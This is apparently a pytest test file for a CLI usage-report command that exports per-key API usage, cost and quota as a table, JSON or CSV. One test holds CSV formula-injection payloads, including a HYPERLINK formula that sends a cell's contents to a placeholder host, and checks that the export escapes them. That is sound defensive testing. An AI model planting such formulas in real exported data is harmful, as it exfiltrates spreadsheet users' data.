"""`python -m app usage`: all keys of a month, as a table, JSON or CSV."""

import asyncio
import csv
import io
import json
import os
import subprocess
import sys
from collections.abc import Mapping
from pathlib import Path

import pytest

from app.cli import exit_codes
from app.cli.command_line import main
from app.settings.keys_file import KeyEntry, KeysFile, write_keys_file
from app.usage.months import Month
from app.usage.redis_store import RedisUsageStore
from app.usage.store import KeyMonth
from testing.servers.redis import RedisServer

ROOT = Path(__file__).parents[2]
COUNTS = {
    "requests": 7,
    "captions caption": 4,
    "captions decorative": 1,
    "captions image_not_found": 2,
    "input_tokens": 1_000_000,
    "price USD 0.15 0.6 input": 1_000_000,
    "unknown_cost": 1,
}


@pytest.fixture
def current(redis_server: RedisServer, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Month:
    """The current month, in which two keys were used; a third one of the keys file was not."""
    monkeypatch.chdir(tmp_path)
    entries = [
        KeyEntry(name=name, sha256=digit * 64, quota=quota)
        for name, digit, quota in (("shop", "0", "10/month"), ("idle", "1", None))
    ]
    write_keys_file(tmp_path / "keys.json", KeysFile(keys=entries))
    monkeypatch.setenv("ALTWRIGHT_KEYS_FILE", str(tmp_path / "keys.json"))
    monkeypatch.setenv("ALTWRIGHT_USAGE_STORE", redis_server.url)

    async def count() -> Month:
        store = RedisUsageStore(redis_server.url)
        month = Month.at(store.now_s())
        euros = {"requests": 1, "price EUR 1 2 output": 500_000, "price USD 1 1 input": 1}
        for name, counts in (("shop", COUNTS), ("gone", euros)):
            await store.add(KeyMonth(name, month), counts)
        await store.aclose()
        return month

    return asyncio.run(count())


def test_the_table_has_a_line_for_every_key(
    capsys: pytest.CaptureFixture[str], current: Month
) -> None:
    assert main(["usage"]) == exit_codes.OK
    head, gone, idle, shop = capsys.readouterr().out.splitlines()
    assert head.split() == [
        "key", "requests", "captions", "decorative", "problems", "input_tokens", "output_tokens",
        "unknown_tokens", "cost", "unknown_cost", "quota", "remaining",
    ]  # fmt: skip
    assert "1 EUR + 0.000001 USD" in gone
    assert idle.split() == ["idle", *"0000000", "0"]
    assert shop.split() == ["shop", "7", "4", "1", "2", "1000000", "0", "0", "0.15", "USD", "1",
                            "10", "5"]  # fmt: skip


def test_json_has_the_shape_of_the_api_and_csv_a_line_for_every_key(
    capsys: pytest.CaptureFixture[str], current: Month
) -> None:
    assert main(["usage", "--month", str(current), "--json"]) == exit_codes.OK
    gone, _, shop = json.loads(capsys.readouterr().out)
    assert shop["captions"] == {"caption": 4, "decorative": 1, "image_not_found": 2}
    assert shop["cost"] == {"currency": "USD", "amount": 0.15}
    assert shop["quota"]["remaining"] == 5
    assert (gone["cost"], len(gone["costs"])) == (None, 2)
    assert main(["usage", "--csv"]) == exit_codes.OK
    rows: list[Mapping[str, str]] = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert [(row["key"], row["requests"]) for row in rows] == [
        ("gone", "1"), ("idle", "0"), ("shop", "7"),
    ]  # fmt: skip


def test_a_name_in_csv_is_no_formula_of_a_spreadsheet(
    capsys: pytest.CaptureFixture[str], current: Month, tmp_path: Path
) -> None:
    names = ('=HYPERLINK("http://a/?"&A1)', "+1", "-1", "@sum", "a=b", 'a"b,c', "é")
    entries = [KeyEntry(name=name, sha256=f"{number:064}") for number, name in enumerate(names)]
    write_keys_file(tmp_path / "keys.json", KeysFile(keys=entries))
    assert main(["usage", "--csv"]) == exit_codes.OK
    rows: list[Mapping[str, str]] = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    expected = {f"'{name}" for name in names[:4]} | set(names[4:])
    assert {row["key"] for row in rows} >= expected
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())
    assert main(["usage", "--json"]) == exit_codes.OK
    assert set(names) <= {key["key"] for key in json.loads(capsys.readouterr().out)}


def test_another_month_has_no_quota(capsys: pytest.CaptureFixture[str], current: Month) -> None:
    assert main(["usage", "--month", "2020-02"]) == exit_codes.OK
    _, _idle, shop = capsys.readouterr().out.splitlines()
    assert shop.split() == ["shop", *"00000000"]


@pytest.mark.parametrize(
    ("store", "arguments", "message"),
    [
        ("memory://", [], "set ALTWRIGHT_USAGE_STORE to a redis:// URL"),
        ("redis://127.0.0.1:1/0", ["--month", "2026-13"], "--month 2026-13: a month is written"),
    ],
)
def test_a_wrong_argument_is_one_line_and_exit_code_2(
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
    store: str,
    arguments: list[str],
    message: str,
) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("ALTWRIGHT_USAGE_STORE", store)
    assert main(["usage", *arguments]) == exit_codes.INVALID_USAGE
    error = capsys.readouterr().err
    assert message in error
    assert error.count("\n") == 1


def test_a_store_that_is_away_is_told_without_its_url(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("ALTWRIGHT_USAGE_STORE", "redis://u:hunter2@127.0.0.1:1/0")
    assert main(["usage"]) == exit_codes.FAILED
    captured = capsys.readouterr()
    assert "does not respond" in captured.err
    assert "hunter2" not in captured.err + captured.out


def test_a_store_that_is_away_is_one_line(tmp_path: Path) -> None:
    """In a process of its own: here pytest handles what is logged."""
    done = subprocess.run(
        [sys.executable, "-m", "app", "usage"],
        cwd=tmp_path,
        env={**os.environ, "PYTHONPATH": str(ROOT), "ALTWRIGHT_USAGE_STORE": "redis://127.0.0.1:1"},
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert done.returncode == exit_codes.FAILED
    assert done.stderr.splitlines() == [
        "altwright: the usage store does not respond; start Redis, or correct ALTWRIGHT_USAGE_STORE"
    ]
